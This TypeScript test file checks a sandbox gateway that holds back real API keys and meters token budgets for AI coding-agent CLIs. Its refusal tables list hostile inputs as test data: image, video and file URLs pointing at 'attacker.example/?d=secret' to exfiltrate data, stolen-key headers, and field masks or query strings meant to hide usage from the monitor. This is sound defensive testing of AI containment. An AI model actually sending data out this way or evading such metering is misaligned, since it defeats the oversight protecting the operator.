import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { GatewayRuleSchema, type GatewayRule } from '../../../../shared/sandbox/containment-policy';
import { WireExchangeSchema } from '../../../../shared/runtime/wire';
import { REPO_ROOT } from '../../../support/run-cli';
import { call, chatStream, eventually, geminiStream, PLACEHOLDER, REAL_KEY, scriptedUpstream, startTestGateway, useGatewayCleanup, type Call, type Script } from './harness';

useGatewayCleanup();

type Fixture = { url: string; headers: Record<string, string>; body: Record<string, unknown> };
const fixture = (name: string): Fixture => JSON.parse(readFileSync(path.join(REPO_ROOT, 'test/fixtures/gateway', name), 'utf8'));
const GEMINI_TEXT = fixture('gemini-text.json');
const OPENCODE_TITLE = fixture('opencode-title.json');
const COPILOT_TURN2 = fixture('copilot-edit-turn2.json');

/** A recording's headers without those the client's own request sets (framing, host) nor its dummy key, with `add`. */
function recordedHeaders(headers: Record<string, string>, add: Record<string, string>): Record<string, string> {
  const kept = Object.entries(headers).filter(([name]) => !['host', 'content-length', 'authorization', 'x-goog-api-key'].includes(name));
  return { ...Object.fromEntries(kept), ...add };
}

// What a Gemini CLI adapter builds: the model in the path, named {model} in the route.
const geminiRule = (upstream: string): GatewayRule =>
  GatewayRuleSchema.parse({
    kind: 'gateway',
    api: 'gemini-generate-content',
    inside: { kind: 'http', port: 3129 },
    upstream,
    routes: [
      { method: 'POST', path: '/v1beta/models/{model}:streamGenerateContent' },
      { method: 'POST', path: '/v1beta/models/{model}:generateContent' },
    ],
    models: ['gemini-2.5-flash'],
  });
const chatRule = (upstream: string): GatewayRule =>
  GatewayRuleSchema.parse({
    kind: 'gateway',
    api: 'openai-chat-completions',
    inside: { kind: 'http', port: 3129 },
    upstream,
    routes: [
      { method: 'POST', path: '/v1/chat/completions' },
      { method: 'GET', path: '/v1/models' },
    ],
    models: ['fake-coder-1'],
  });

const geminiHeaders = (key: string = PLACEHOLDER) => recordedHeaders(GEMINI_TEXT.headers, { 'x-goog-api-key': key });
const geminiBody = (change: Record<string, unknown> = {}) => JSON.stringify({ ...GEMINI_TEXT.body, ...change });
const geminiCall = (change: Partial<Call> = {}): Call => ({ path: GEMINI_TEXT.url, headers: geminiHeaders(), body: geminiBody(), ...change });
const chatHeaders = (key: string = PLACEHOLDER) => recordedHeaders(OPENCODE_TITLE.headers, { authorization: `Bearer ${key}` });
const chatBody = (change: Record<string, unknown> = {}) => JSON.stringify({ ...OPENCODE_TITLE.body, ...change });
const chatCall = (change: Partial<Call> = {}): Call => ({ path: OPENCODE_TITLE.url, headers: chatHeaders(), body: chatBody(), ...change });

const streams =
  (body: string, contentType = 'text/event-stream'): Script =>
  (_request, response) => {
    response.writeHead(200, { 'content-type': contentType });
    response.end(body);
  };

interface Attack {
  readonly name: string;
  readonly call: () => Call;
  readonly status: number;
  readonly refusal: string;
  readonly budgetTokens?: number;
}

/** Each attack reaches the scripted provider straight, and is refused by the gateway before the provider sees it. */
function refusesEach(rule: (upstream: string) => GatewayRule, answer: string, credential: Record<string, string>, attacks: readonly Attack[]): void {
  for (const attack of attacks) {
    it(attack.name, async () => {
      const upstream = await scriptedUpstream(streams(answer));
      const direct = attack.call();
      expect((await call(upstream, direct)).status).toBe(200);
      expect(upstream.seen).toHaveLength(1);

      const gateway = await startTestGateway(rule(upstream.origin), { credential: { headers: () => Promise.resolve(credential) }, budgetTokens: attack.budgetTokens ?? null });
      const refused = await call(gateway, attack.call());
      expect(refused.status).toBe(attack.status);
      expect(refused.body).toContain(attack.refusal);
      expect(upstream.seen).toHaveLength(1);
      expect(gateway.denials).toEqual([{ host: '127.0.0.1', port: Number(new URL(upstream.origin).port), reason: attack.refusal === 'route_not_allowed' ? 'path_not_allowed' : attack.refusal, method: direct.method ?? 'POST', path: direct.path.split('?')[0] }]);
      await eventually(() => gateway.exchanges.length === 1);
      expect(gateway.exchanges[0]).toMatchObject({ outcome: 'refused', refusal: attack.refusal, status: null });
    });
  }
}

describe('the provider gateway, Gemini API dialect', () => {
  it("forwards Gemini CLI 0.61.0's recorded request with the real key in x-goog-api-key (never the placeholder) and witnesses the stream", async () => {
    const upstream = await scriptedUpstream(streams(geminiStream('gemini-2.5-flash-001')));
    const gateway = await startTestGateway(geminiRule(upstream.origin), { credential: { headers: () => Promise.resolve({ 'x-goog-api-key': REAL_KEY }) } });
    const answer = await call(gateway, geminiCall({ headers: { ...geminiHeaders(), 'x-goog-fieldmask': 'candidates' } }));

    expect(answer.status).toBe(200);
    expect(answer.body).toBe(geminiStream('gemini-2.5-flash-001'));
    const [seen] = upstream.seen;
    expect(seen?.url).toBe('/v1beta/models/gemini-2.5-flash:streamGenerateContent?alt=sse');
    expect(seen?.headers['x-goog-api-key']).toBe(REAL_KEY);
    expect(seen?.headers['x-goog-api-client']).toBe(GEMINI_TEXT.headers['x-goog-api-client']);
    // A field mask would strip the model and usage from the answer the witness reads.
    expect(seen?.headers['x-goog-fieldmask']).toBeUndefined();
    expect(JSON.stringify(seen?.headers)).not.toContain(PLACEHOLDER);
    expect(seen?.body.toString()).toBe(geminiBody());

    await eventually(() => gateway.exchanges.length === 1);
    expect(WireExchangeSchema.parse(gateway.exchanges[0])).toMatchObject({
      path: '/v1beta/models/gemini-2.5-flash:streamGenerateContent',
      outcome: 'completed',
      status: 200,
      requested_model: 'gemini-2.5-flash',
      served_model: 'gemini-2.5-flash-001',
      input_tokens: 321,
      output_tokens: 74,
    });
    expect(gateway.denials).toEqual([]);
  });

  describe('refuses, before the upstream sees anything, what passes without its rule', () => {
    refusesEach(geminiRule, geminiStream('gemini-2.5-flash'), { 'x-goog-api-key': REAL_KEY }, [
      { name: 'another model in the path', call: () => geminiCall({ path: '/v1beta/models/gemini-2.5-pro:streamGenerateContent?alt=sse' }), status: 403, refusal: 'model_not_allowed' },
      { name: 'a model in the body besides the path', call: () => geminiCall({ body: geminiBody({ model: 'models/gemini-2.5-pro' }) }), status: 403, refusal: 'model_not_allowed' },
      { name: 'a percent-escaped model segment', call: () => geminiCall({ path: '/v1beta/models/gemini%2D2.5-flash:streamGenerateContent?alt=sse' }), status: 403, refusal: 'route_not_allowed' },
      { name: 'a route outside the contract (countTokens, the Files API)', call: () => geminiCall({ path: '/v1beta/models/gemini-2.5-flash:countTokens' }), status: 403, refusal: 'route_not_allowed' },
      { name: 'a server-side Google Search tool', call: () => geminiCall({ body: geminiBody({ tools: [{ googleSearch: {} }] }) }), status: 403, refusal: 'server_tool_refused' },
      { name: 'a URL Google would fetch (urlContext, fileData)', call: () => geminiCall({ body: geminiBody({ contents: [{ role: 'user', parts: [{ fileData: { fileUri: 'https://attacker.example/?d=secret' } }] }] }) }), status: 403, refusal: 'server_tool_refused' },
      { name: 'the placeholder in a query string', call: () => geminiCall({ path: `${GEMINI_TEXT.url}&key=${PLACEHOLDER}`, headers: recordedHeaders(GEMINI_TEXT.headers, { 'x-goog-api-key': PLACEHOLDER }) }), status: 403, refusal: 'query_not_allowed' },
      { name: 'a field mask that would hide the usage', call: () => geminiCall({ path: `${GEMINI_TEXT.url}&fields=candidates` }), status: 403, refusal: 'query_not_allowed' },
      { name: 'a stream not in SSE (a JSON array the witness would not read)', call: () => geminiCall({ path: '/v1beta/models/gemini-2.5-flash:streamGenerateContent' }), status: 403, refusal: 'query_not_allowed' },
      { name: 'another key than the placeholder', call: () => geminiCall({ headers: geminiHeaders('AIza-stolen-key') }), status: 403, refusal: 'placeholder_mismatch' },
    ]);
  });

  it('refuses a key only in the query (no header) as well: the placeholder never leaves, the real key is still set', async () => {
    const upstream = await scriptedUpstream(streams(geminiStream('gemini-2.5-flash')));
    const gateway = await startTestGateway(geminiRule(upstream.origin), { credential: { headers: () => Promise.resolve({ 'x-goog-api-key': REAL_KEY }) } });
    const answer = await call(gateway, geminiCall({ path: `${GEMINI_TEXT.url}&key=${PLACEHOLDER}`, headers: recordedHeaders(GEMINI_TEXT.headers, {}) }));
    expect(answer.status).toBe(403);
    expect(JSON.parse(answer.body)).toMatchObject({ error: { code: 403, status: 'PERMISSION_DENIED' } });
    expect(upstream.seen).toEqual([]);
  });
});

describe('the provider gateway, OpenAI Chat Completions dialect', () => {
  it("forwards OpenCode 1.18.33's and Copilot CLI 1.0.102's recorded requests with the real bearer token and witnesses each stream", async () => {
    const upstream = await scriptedUpstream(streams(chatStream('fake-coder-1-served-by-scripted-server')));
    const gateway = await startTestGateway(chatRule(upstream.origin), { credential: { headers: () => Promise.resolve({ authorization: `Bearer ${REAL_KEY}` }) }, budgetTokens: 100_000 });
    expect((await call(gateway, chatCall())).status).toBe(200);
    const copilot = await call(gateway, { path: COPILOT_TURN2.url, headers: recordedHeaders(COPILOT_TURN2.headers, { authorization: `Bearer ${PLACEHOLDER}` }), body: JSON.stringify(COPILOT_TURN2.body) });
    expect(copilot.status).toBe(200);
    expect(copilot.body).toBe(chatStream('fake-coder-1-served-by-scripted-server'));
    expect(upstream.seen.map((seen) => seen.headers['authorization'])).toEqual([`Bearer ${REAL_KEY}`, `Bearer ${REAL_KEY}`]);
    expect(upstream.seen[1]?.headers['x-initiator']).toBe(COPILOT_TURN2.headers['x-initiator']);
    expect(JSON.stringify(upstream.seen.map((seen) => seen.headers))).not.toContain(PLACEHOLDER);
    expect(upstream.seen[0]?.body.toString()).toBe(chatBody());

    await eventually(() => gateway.exchanges.length === 2);
    for (const exchange of gateway.exchanges) {
      expect(WireExchangeSchema.parse(exchange)).toMatchObject({ path: '/v1/chat/completions', outcome: 'completed', status: 200, requested_model: 'fake-coder-1', served_model: 'fake-coder-1-served-by-scripted-server', input_tokens: 321, output_tokens: 54 });
    }
  });

  it('passes the read-only model list the contract names', async () => {
    const upstream = await scriptedUpstream(streams('{"object":"list","data":[{"id":"fake-coder-1","object":"model"}]}', 'application/json'));
    const gateway = await startTestGateway(chatRule(upstream.origin), { credential: { headers: () => Promise.resolve({ authorization: `Bearer ${REAL_KEY}` }) }, budgetTokens: 1000 });
    for (let i = 0; i < 2; i += 1) expect((await call(gateway, { method: 'GET', path: '/v1/models', headers: { authorization: `Bearer ${PLACEHOLDER}` } })).status).toBe(200);
    await eventually(() => gateway.exchanges.length === 2);
    // A GET spends nothing: no usage is no unmetered answer.
    expect(gateway.exchanges.map((exchange) => [exchange.outcome, exchange.input_tokens])).toEqual([['completed', null], ['completed', null]]);
  });

  describe('refuses, before the upstream sees anything, what passes without its rule', () => {
    refusesEach(chatRule, chatStream('fake-coder-1'), { authorization: `Bearer ${REAL_KEY}` }, [
      { name: 'another model in the body', call: () => chatCall({ body: chatBody({ model: 'gpt-5' }) }), status: 403, refusal: 'model_not_allowed' },
      { name: 'a server-side web search', call: () => chatCall({ body: chatBody({ web_search_options: { search_context_size: 'high' } }) }), status: 403, refusal: 'server_tool_refused' },
      { name: 'an image the provider would fetch', call: () => chatCall({ body: chatBody({ messages: [{ role: 'user', content: [{ type: 'image_url', image_url: { url: 'https://attacker.example/?d=secret' } }] }] }) }), status: 403, refusal: 'server_tool_refused' },
      { name: 'a video the provider would fetch (video_url)', call: () => chatCall({ body: chatBody({ messages: [{ role: 'user', content: [{ type: 'video_url', video_url: { url: 'https://attacker.example/?d=secret' } }] }] }) }), status: 403, refusal: 'server_tool_refused' },
      { name: 'a query string (a field mask, another encoding, a key)', call: () => chatCall({ path: '/v1/chat/completions?%24fields=choices&alt=proto&key=AIzaATTACKER' }), status: 403, refusal: 'query_not_allowed' },
      { name: 'another key than the placeholder', call: () => chatCall({ headers: chatHeaders('sk-stolen') }), status: 403, refusal: 'placeholder_mismatch' },
      { name: 'the placeholder beside another key header', call: () => chatCall({ headers: { ...chatHeaders(), 'api-key': 'sk-stolen' } }), status: 403, refusal: 'placeholder_mismatch' },
      { name: 'a route outside the contract', call: () => chatCall({ path: '/v1/embeddings' }), status: 403, refusal: 'route_not_allowed' },
      { name: 'with a budget, a stream that does not ask for its usage', call: () => chatCall({ body: chatBody({ stream_options: undefined }) }), status: 400, refusal: 'usage_not_requested', budgetTokens: 100_000 },
    ]);
  });

  it('without a budget, forwards a stream that asked for no usage and records its tokens as unknown', async () => {
    const upstream = await scriptedUpstream(streams(chatStream('fake-coder-1', null)));
    const gateway = await startTestGateway(chatRule(upstream.origin), { credential: { headers: () => Promise.resolve({}) } });
    expect((await call(gateway, chatCall({ headers: recordedHeaders(OPENCODE_TITLE.headers, {}), body: chatBody({ stream_options: undefined }) }))).status).toBe(200);
    await eventually(() => gateway.exchanges.length === 1);
    expect(gateway.exchanges[0]).toMatchObject({ outcome: 'completed', served_model: 'fake-coder-1', input_tokens: null, output_tokens: null });
  });

  it('with a budget, ends the run at the next request once a provider completed an answer without its usage (asked or not)', async () => {
    const upstream = await scriptedUpstream(streams(chatStream('fake-coder-1', null)));
    const gateway = await startTestGateway(chatRule(upstream.origin), { credential: { headers: () => Promise.resolve({ authorization: `Bearer ${REAL_KEY}` }) }, budgetTokens: 100_000 });
    expect((await call(gateway, chatCall())).status).toBe(200);
    await eventually(() => gateway.exchanges.length === 1);
    expect(gateway.exchanges[0]).toMatchObject({ outcome: 'completed', input_tokens: null, output_tokens: null });
    expect(gateway.calls.budgetExceeded).toBe(0);
    const next = await call(gateway, chatCall());
    expect(next.status).toBe(403);
    expect(next.body).toContain('budget_exceeded');
    expect(upstream.seen).toHaveLength(1);
    expect(gateway.calls.budgetExceeded).toBe(1);
  });
});
